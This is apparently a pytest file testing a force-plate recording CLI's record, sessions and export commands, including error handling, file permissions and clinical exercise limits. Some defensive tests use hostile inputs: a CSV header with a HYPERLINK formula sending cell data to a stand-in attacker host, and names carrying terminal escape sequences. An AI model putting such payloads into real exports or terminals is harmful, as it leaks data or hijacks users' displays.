"""`forceplate record`, `sessions` and `export` as a script uses them (docs/contracts.md section 3), in real processes."""
import json
import os
import resource
import signal
import stat
import subprocess
import sys

import pytest

from forceplate.storage.store import Store
from helpers import DATA_DIR

REPLAY_DJ = "replay:{data}/gidiel_vj_single_dj.csv?speed=8"
SIM_HEEL_DROPS = "sim:heel-drops?speed=8&adc=ideal&rate_hz=1000"
CONTRACT_FIELDS = {"impact": {"kind", "t_peak_s", "peak_n", "peak_bw", "loading_rate_bw_s", "thump"},
                   "jump": {"kind", "takeoff_s", "landing_s", "flight_s", "height_flight_m", "height_impulse_m",
                            "t_peak_s", "peak_n", "peak_bw", "loading_rate_bw_s", "thump"}}


def forceplate(*args, data_dir, timeout=120, **kw):
    env = {k: v for k, v in os.environ.items() if not k.startswith("FORCEPLATE_")}
    return subprocess.run([sys.executable, "-m", "forceplate", *args, "--data-dir", str(data_dir)],
                          capture_output=True, text=True, timeout=timeout, env=env, **kw)


def lines(stdout):
    return [json.loads(line) for line in stdout.splitlines()]


def test_record_prints_each_event_with_its_session_then_a_summary(tmp_path):
    run = forceplate("record", "--person", "Ann", "--source", REPLAY_DJ.format(data=DATA_DIR), data_dir=tmp_path)
    assert run.returncode == 0, run.stderr
    *events, summary = lines(run.stdout)
    assert [e["kind"] for e in events] == ["impact", "jump"]       # the drop onto the plate, then the jump
    for event in events:
        assert CONTRACT_FIELDS[event["kind"]] <= set(event)
        assert event["session"] == 1
    assert summary | {"kind": "summary", "session": 1, "status": "complete", "events": 2} == summary
    assert summary["sets"] == 5000                                   # every sample of the 5 s file


def test_sessions_lists_id_person_times_status_and_counts(tmp_path):
    forceplate("record", "--person", "Ann", "--source", REPLAY_DJ.format(data=DATA_DIR), data_dir=tmp_path)
    forceplate("record", "--person", "Bob", "--seconds", "2", "--source", SIM_HEEL_DROPS, data_dir=tmp_path)
    everyone = json.loads(forceplate("sessions", "--json", data_dir=tmp_path).stdout)
    assert [(s["id"], s["person"], s["status"]) for s in everyone] == [(1, "Ann", "complete"), (2, "Bob", "complete")]
    assert set(everyone[0]) == {"id", "person", "started", "ended", "status", "events", "thumps", "exercise"}
    assert [s["exercise"] for s in everyone] == ["free", "free"]
    assert everyone[0]["events"] == 2 and everyone[0]["thumps"] == 2
    assert everyone[0]["ended"] >= everyone[0]["started"]
    anns = json.loads(forceplate("sessions", "--person", "ann", "--json", data_dir=tmp_path).stdout)
    assert [s["id"] for s in anns] == [1]


def _analyze(path):
    run = subprocess.run([sys.executable, "-m", "forceplate", "analyze", str(path), "--json"],
                         capture_output=True, text=True, timeout=120)
    assert run.returncode == 0, run.stderr
    return json.loads(run.stdout)


@pytest.mark.parametrize("spec, seconds", [(REPLAY_DJ, None), (SIM_HEEL_DROPS, "30")])
def test_analyze_on_an_export_reproduces_the_sessions_events(tmp_path, spec, seconds):
    args = ["record", "--person", "Ann", "--source", spec.format(data=DATA_DIR)]
    run = forceplate(*args, *(["--seconds", seconds] if seconds else []), data_dir=tmp_path)
    assert run.returncode == 0, run.stderr
    live = [e for e in lines(run.stdout) if e["kind"] != "summary"]
    assert len(live) >= 2
    exported = forceplate("export", "1", "--out", str(tmp_path / "out"), data_dir=tmp_path)
    assert exported.returncode == 0, exported.stderr
    csv_path, json_path = exported.stdout.split()
    assert csv_path.endswith("session-1.csv") and json_path.endswith("session-1.json")
    with open(json_path, encoding="utf-8") as fh:
        meta = json.load(fh)
    assert meta["session"] == 1 and meta["person"] == "Ann" and meta["status"] == "complete"
    assert [e["seq"] for e in meta["events"]] == list(range(len(live)))
    offline = _analyze(csv_path)["events"]
    assert [e["kind"] for e in offline] == [e["kind"] for e in live]
    for a, b in zip(live, offline):
        # The same samples at the same times: event times agree to the sample; peaks in body weights
        # differ only by live's body weight (the quietest second so far) against offline's (the whole file).
        for key in ("t_peak_s", "takeoff_s", "landing_s"):
            if a.get(key) is not None:
                assert b[key] == pytest.approx(a[key], abs=0.0011), key
        if a["peak_n"] is not None:
            assert b["peak_n"] == pytest.approx(a["peak_n"], rel=1e-3)
            assert b["peak_bw"] == pytest.approx(a["peak_bw"], rel=0.02)
        assert b["thump"] == a["thump"]


def _one_line_error(run):
    assert run.returncode == 2, (run.stdout, run.stderr)
    assert run.stdout == ""
    assert len(run.stderr.strip().splitlines()) == 1, run.stderr
    assert "Traceback" not in run.stderr
    return run.stderr


def test_bad_input_exits_2_with_one_line(tmp_path):
    assert "no session 7" in _one_line_error(forceplate("export", "7", "--out", str(tmp_path / "o"), data_dir=tmp_path))
    assert "not a session number" in _one_line_error(forceplate("export", "x", "--out", "o", data_dir=tmp_path))
    assert "no person" in _one_line_error(forceplate("sessions", "--person", "Nobody", "--json", data_dir=tmp_path))
    _one_line_error(forceplate("record", "--person", "Ann", "--source", "sim:nonsense", data_dir=tmp_path))
    _one_line_error(forceplate("record", "--person", "Ann", "--source", "replay:/no/such.csv", data_dir=tmp_path))
    _one_line_error(forceplate("record", "--person", "Ann", "--seconds", "-1", "--source", "sim", data_dir=tmp_path))
    _one_line_error(forceplate("record", "--person", " ", "--source", "sim", data_dir=tmp_path))
    bad = _one_line_error(forceplate("record", "--person", "Ann", "--exercise", "heel drops", "--source", "sim",
                                     data_dir=tmp_path))
    assert "--exercise" in bad and "heel-drop" in bad                  # says what it takes
    not_a_folder = tmp_path / "file"
    not_a_folder.write_text("x")
    _one_line_error(forceplate("sessions", "--json", data_dir=not_a_folder / "db"))


def test_an_export_to_a_folder_it_cannot_write_or_a_full_disk_exits_2_and_leaves_nothing_half_written(tmp_path):
    forceplate("record", "--person", "Ann", "--seconds", "3", "--source", SIM_HEEL_DROPS, data_dir=tmp_path)
    blocker = tmp_path / "blocker"
    blocker.write_text("a file where the folder should be")
    assert "cannot write the export" in _one_line_error(
        forceplate("export", "1", "--out", str(blocker / "out"), data_dir=tmp_path))

    out = tmp_path / "full"
    out.mkdir()

    def small_disk():                # writes past 64 kB fail (EFBIG) as a full disk's fail (ENOSPC)
        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
        resource.setrlimit(resource.RLIMIT_FSIZE, (64_000, 64_000))

    run = forceplate("export", "1", "--out", str(out), data_dir=tmp_path, preexec_fn=small_disk)
    assert "cannot write the export" in _one_line_error(run)
    assert list(out.iterdir()) == []
    with Store(tmp_path) as store:
        assert store.integrity_check() == "ok"


def _mode(path):
    return stat.S_IMODE(os.stat(path).st_mode)


def test_record_makes_a_data_folder_only_its_owner_can_read_whatever_the_umask(tmp_path):
    data = tmp_path / "new" / "data"
    run = forceplate("record", "--person", "Ann", "--seconds", "1", "--source", SIM_HEEL_DROPS, data_dir=data,
                     preexec_fn=lambda: os.umask(0))          # the loosest umask: files would be 0666
    assert run.returncode == 0, run.stderr
    assert _mode(data) == 0o700
    assert _mode(data / "forceplate.db") == 0o600
    with Store(data) as store:                                 # -wal and -shm exist while a store is open
        store.people()
        for suffix in ("-wal", "-shm"):
            assert _mode(f"{store.path}{suffix}") == 0o600


def test_record_refuses_a_name_with_a_terminal_escape(tmp_path):
    assert "control or invisible" in _one_line_error(
        forceplate("record", "--person", "Ann\x1b]0;owned\x07", "--source", SIM_HEEL_DROPS, data_dir=tmp_path))


def test_sessions_on_a_terminal_escapes_control_characters_of_names_stored_before_the_rule(tmp_path):
    forceplate("record", "--person", "Ann", "--seconds", "1", "--source", SIM_HEEL_DROPS, data_dir=tmp_path)
    with Store(tmp_path) as store:                 # as an older version could store it
        store.db.execute("UPDATE people SET name = ? WHERE id = 1", ["Ann\x1b[2J\x9b31m\u200b"])
        store.db.conn.commit()
    run = forceplate("sessions", data_dir=tmp_path)
    assert run.returncode == 0, run.stderr
    assert "\x1b" not in run.stdout and "\x9b" not in run.stdout and "\u200b" not in run.stdout
    assert "Ann\\x1b[2J\\x9b31m\\u200b" in run.stdout
    listed = json.loads(forceplate("sessions", "--json", data_dir=tmp_path).stdout)   # JSON keeps the name as is
    assert listed[0]["person"] == "Ann\x1b[2J\x9b31m\u200b"


def test_sessions_on_a_terminal_name_each_sessions_exercise(tmp_path):
    for exercise in ("heel-drop", "free"):
        run = forceplate("record", "--person", "Ann", "--seconds", "1", "--exercise", exercise,
                         "--source", SIM_HEEL_DROPS, data_dir=tmp_path)
        assert run.returncode == 0, run.stderr
    listed = forceplate("sessions", data_dir=tmp_path).stdout.splitlines()
    assert len(listed) == 2
    assert " heel-drop " in listed[0] and " free " in listed[1]
    assert all("reps" in line and "thumps" in line for line in listed)


def test_an_export_shows_formula_like_column_names_as_text_and_analyze_still_reads_it(tmp_path):
    rows = (tmp_path / "dj.csv")
    source = (DATA_DIR / "gidiel_vj_single_dj.csv").read_text().splitlines()
    evil = ['=HYPERLINK("http://evil.example/?"&A2)_n', "+1+1_n", "-2+3_n", "@SUM(A1)_n", "fz_n"]
    body = [line.split(",") for line in source[1:]]
    # the recording's force split over five cells, named as a hostile file might name them
    rows.write_text(",".join(["t_s", *evil]) + "\n" + "".join(
        f"{t},{','.join([repr(float(f) / 5)] * 5)}\n" for t, f in body))
    run = forceplate("record", "--person", "Ann", "--source", f"replay:{rows}?speed=8", data_dir=tmp_path)
    assert run.returncode == 0, run.stderr
    live = [e for e in lines(run.stdout) if e["kind"] != "summary"]
    exported = forceplate("export", "1", "--out", str(tmp_path / "out"), data_dir=tmp_path)
    assert exported.returncode == 0, exported.stderr
    csv_path = exported.stdout.split()[0]
    with open(csv_path, encoding="utf-8") as fh:
        header, first = fh.readline().rstrip("\n"), fh.readline()
    assert header.split(",") == ["t_s", *("'" + name for name in evil[:4]), "fz_n"]
    assert [float(cell) for cell in first.strip().split(",")]        # the numbers stay numbers, no quote
    offline = _analyze(csv_path)["events"]            # contract section 2: analyze reads the export
    assert [e["kind"] for e in offline] == [e["kind"] for e in live] == ["impact", "jump"]


SIM_STS = "sim:sit-to-stand?speed=8&adc=ideal&rate_hz=1000"


SIM_SESSION = "sim:session?speed=8&adc=ideal&rate_hz=1000"     # heel drops, and jumps after a heel drop
SIM_DROPS = "sim:drop-landings?speed=8&adc=ideal&rate_hz=1000"    # off a box onto the plate, rebounding or not


@pytest.mark.parametrize("spec, exercise, seconds", [(SIM_HEEL_DROPS, "heel-drop", "40"),
                                                     (SIM_SESSION, "heel-drop", "70"),
                                                     (SIM_DROPS, "drop-landing", "40"),
                                                     (SIM_STS, "sit-to-stand", "40")])
def test_a_session_recorded_with_an_exercise_lists_and_exports_it_and_its_export_reproduces_it(
        tmp_path, spec, exercise, seconds):
    run = forceplate("record", "--person", "Ann", "--seconds", seconds, "--exercise", exercise, "--source", spec,
                     data_dir=tmp_path)
    assert run.returncode == 0, run.stderr
    live = [e for e in lines(run.stdout) if e["kind"] != "summary"]
    withdrawn = [e for e in live if e["kind"] == "withdrawn"]
    standing = [e for e in live if e["kind"] != "withdrawn" and not any(
        w["seq"] == e["seq"] for w in withdrawn)]
    if spec == SIM_SESSION:     # a heel drop sent at once, then a take-off: withdrawn, as that jump's push-off
        assert withdrawn and all(w["seq"] is not None for w in withdrawn)
    (listed,) = json.loads(forceplate("sessions", "--json", data_dir=tmp_path).stdout)
    assert listed["exercise"] == exercise and listed["events"] == len(standing)
    exported = forceplate("export", "1", "--out", str(tmp_path / "out"), data_dir=tmp_path)
    assert exported.returncode == 0, exported.stderr
    csv_path, json_path = exported.stdout.split()
    with open(json_path, encoding="utf-8") as fh:
        meta = json.load(fh)
    assert meta["exercise"] == exercise
    assert meta["analyze"].endswith(f"--exercise {exercise}")
    assert [e["seq"] for e in meta["events"]] == [e["seq"] for e in standing]
    assert [e["seq"] for e in meta["withdrawn_events"]] == [w["seq"] for w in withdrawn if w["seq"] is not None]
    for key in ("session", "person", "started", "ended", "status", "source", "rate_hz", "adc", "cells", "speed",
                "clock_origin_ns", "calibration", "body_weight_n", "thump_bw", "min_peak_bw", "csv", "sets",
                "sets_exported", "sets_left_out_flagged", "analyze", "events"):
        assert key in meta, key                                        # every field an export had before
    command = meta["analyze"].split()
    assert command[:3] == ["forceplate", "analyze", os.path.basename(csv_path)]
    analysed = subprocess.run([sys.executable, "-m", "forceplate", "analyze", csv_path, *command[3:], "--json"],
                              capture_output=True, text=True, timeout=120)
    assert analysed.returncode == 0, analysed.stderr
    result = json.loads(analysed.stdout)
    offline = result["events"]
    # the sit-to-stand reps (in every exercise) are the rises, reported beside the events
    offline = sorted(offline + [r | {"kind": "sit-to-stand"} for r in result.get("sit_to_stand") or []
                                if r.get("rise_s") is not None],
                     key=lambda e: e.get("takeoff_s") or e["t_peak_s"])
    assert len(standing) >= 3
    assert [e["kind"] for e in offline] == [e["kind"] for e in standing]
    for a, b in zip(standing, offline):
        for key in ("t_peak_s", "takeoff_s", "landing_s"):
            if a.get(key) is not None:
                assert b[key] == pytest.approx(a[key], abs=0.0011), key
        if a.get("peak_n") is not None:
            assert b["peak_n"] == pytest.approx(a["peak_n"], rel=1e-3)
        assert b.get("thump") == a.get("thump")


def _person(data_dir, name, **fields):
    from forceplate.programme.standing import default_plan
    plan = fields.pop("plan", None)
    with Store(data_dir) as store:
        person_id = store.add_person(name, changed_by="test", **fields)
        if plan:
            store.set_plan(person_id, changed_by="test", default=default_plan(), **plan)
    return person_id


def test_record_applies_the_programme_a_jump_waiting_for_approval_counts_for_nothing(tmp_path):
    # a vertebral fracture: no jumps until a clinician approves; the drop jump's jump is kept, never counted
    _person(tmp_path, "Bea", has_vertebral_fracture=1)
    run = forceplate("record", "--person", "Bea", "--source", REPLAY_DJ.format(data=DATA_DIR), data_dir=tmp_path)
    assert run.returncode == 0, run.stderr
    *events, summary = lines(run.stdout)
    impact, jump = events
    assert (impact["kind"], impact["counted"], impact["thump"]) == ("impact", True, True)
    assert (jump["kind"], jump["counted"], jump["thump"]) == ("jump", False, None)
    assert jump["not_counted_reason"] == "No jumps while waiting for clinician approval"
    assert (summary["events"], summary["thumps"], summary["not_counted"]) == (1, 1, 1)
    listed, = json.loads(forceplate("sessions", "--json", data_dir=tmp_path).stdout)
    assert (listed["events"], listed["thumps"]) == (1, 1)
    refused = forceplate("record", "--person", "Bea", "--exercise", "jump", "--source",
                         REPLAY_DJ.format(data=DATA_DIR), data_dir=tmp_path)
    assert refused.returncode == 2 and refused.stdout == ""
    assert _one_line_error(refused).startswith("forceplate: Jumps are not allowed for Bea today: waiting for "
                                               "clinician approval (a vertebral fracture)")


def test_record_ends_at_todays_impact_limit_and_does_not_start_past_it(tmp_path):
    _person(tmp_path, "Cat", plan={"daily_impact_cap": 1})
    run = forceplate("record", "--person", "Cat", "--source", REPLAY_DJ.format(data=DATA_DIR), data_dir=tmp_path)
    assert run.returncode == 0, run.stderr
    *events, summary = lines(run.stdout)
    assert [(e["kind"], e["counted"]) for e in events if e["counted"]] == [("impact", True)]
    assert summary["events"] == 1
    assert "today's impact limit for Cat is reached" in run.stderr
    again = forceplate("record", "--person", "Cat", "--source", REPLAY_DJ.format(data=DATA_DIR), data_dir=tmp_path)
    assert again.returncode == 2 and again.stdout == ""
    assert _one_line_error(again).strip() == ("forceplate: No impacts left today for Cat: 1 of 1 done (the daily "
                                      "limit). Sit-to-stand is still possible.")
    assert len(json.loads(forceplate("sessions", "--json", data_dir=tmp_path).stdout)) == 1
